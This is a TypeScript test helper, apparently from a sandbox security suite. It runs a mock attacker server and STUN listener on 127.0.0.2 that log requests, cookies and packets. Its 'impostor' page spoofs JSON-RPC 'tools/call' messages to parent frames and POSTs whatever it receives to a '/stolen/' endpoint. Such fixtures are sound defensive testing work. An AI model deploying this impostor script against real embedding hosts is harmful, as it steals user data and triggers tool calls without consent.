import { createSocket } from "node:dgram";
import type { IncomingMessage, ServerResponse } from "node:http";
import { listen } from "./listen.ts";

/** A request that reached the attacker. */
export interface Hit {
  /** The name of the probe that sent it: the second segment of the path `/hit/<probe>…`. */
  readonly probe: string;
  /** Path and query, in which data can leave. */
  readonly url: string;
  readonly body: string;
  readonly cookie: string | undefined;
}

/** A third origin that wants data. It answers everything, allows every origin, and writes down what came. */
export interface Attacker extends AsyncDisposable {
  /** `http://127.0.0.2:<port>`: another site than the host page's and the sandbox's. */
  readonly origin: string;
  /** Counts packets: what STUN of WebRTC sends. */
  readonly stunUrl: string;
  readonly hits: readonly Hit[];
  /** What its impostor pages were told by whoever still trusted their frame: the message is the body. */
  readonly stolen: readonly Hit[];
  readonly packets: number;
  /** Resolves with the first hit of that probe, past or future. */
  hit(probe: string): Promise<Hit>;
  /** Resolves once the impostor page of that kind was told something that has `text` in it. */
  theft(kind: string, text: string): Promise<Hit>;
  forget(): void;
}

const address = "127.0.0.2";

/** Starts the attacker on an address of its own. */
export async function startAttacker(): Promise<Attacker> {
  const hits: Hit[] = [];
  const stolen: Hit[] = [];
  const watchers = new Set<() => void>();
  let packets = 0;

  const note = (request: IncomingMessage, body: string): void => {
    const url = request.url ?? "/";
    const [, list, probe = ""] = url.split(/[/?.]/);
    const hit = { probe, url, body, cookie: request.headers.cookie };
    if (list === "hit") hits.push(hit);
    if (list === "stolen") stolen.push(hit);
    for (const look of watchers) look();
  };
  const first = (list: readonly Hit[], isWanted: (hit: Hit) => boolean): Promise<Hit> =>
    new Promise((resolve) => {
      const look = (): void => {
        const hit = list.find(isWanted);
        if (hit === undefined) return;
        watchers.delete(look);
        resolve(hit);
      };
      watchers.add(look);
      look();
    });
  const web = await listen(address, (request, response) => {
    readBody(request).then((body) => {
      note(request, body);
      answer(request, response);
    }, response.destroy);
  });
  web.server.on("upgrade", (request, socket) => {
    note(request, "");
    socket.destroy();
  });
  const stun = createSocket("udp4", () => {
    packets += 1;
  });
  await new Promise<void>((resolve) => stun.bind(0, address, resolve));

  return {
    origin: `http://${address}:${web.port}`,
    stunUrl: `stun:${address}:${stun.address().port}`,
    hits,
    stolen,
    get packets() {
      return packets;
    },
    hit: (wanted) => first(hits, ({ probe }) => probe === wanted),
    theft: (kind, text) => first(stolen, ({ probe, body }) => probe === kind && body.includes(text)),
    forget() {
      hits.length = 0;
      stolen.length = 0;
      packets = 0;
    },
    async [Symbol.asyncDispose]() {
      await new Promise<void>((resolve) => stun.close(resolve));
      await web[Symbol.asyncDispose]();
    },
  };
}

async function readBody(request: IncomingMessage): Promise<string> {
  let body = "";
  for await (const chunk of request.setEncoding("utf8")) body += chunk;
  return body;
}

const pixel = Buffer.from("R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==", "base64");

/** What the attacker serves, by the end of the path. Everything may be read and run by anybody. */
const contents: Readonly<Record<string, readonly [type: string, body: string | Buffer]>> = {
  js: ["text/javascript", "globalThis.attackerRan = true;"],
  css: ["text/css", "body { --attacker: 1 }"],
  gif: ["image/gif", pixel],
  events: ["text/event-stream", "data: 1\n\n"],
  page: ["text/html", impostor()],
};

function answer(request: IncomingMessage, response: ServerResponse): void {
  const ending = new URL(request.url ?? "/", "http://attacker").pathname.split(".").at(-1) ?? "";
  const [type, body] = contents[ending] ?? ["text/plain", "ok"];
  response.writeHead(200, {
    "content-type": type,
    "access-control-allow-origin": "*",
    "access-control-allow-headers": "*",
    "timing-allow-origin": "*",
  });
  response.end(body);
}

/** A page that takes the place of a view, asks for what the view was waiting for, and sends home all it is told. */
function impostor(): string {
  return `<!doctype html><title>impostor</title><script>
    const probe = location.pathname.split(/[/.]/)[2];
    addEventListener("message", ({ data }) =>
      fetch("/stolen/" + probe, { method: "POST", body: JSON.stringify(data) }));
    for (const window of [parent, top])
      window.postMessage({ jsonrpc: "2.0", method: "ui/notifications/initialized", params: {} }, "*");
    parent.postMessage({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "secret", arguments: {} } }, "*");
  </script>`;
}
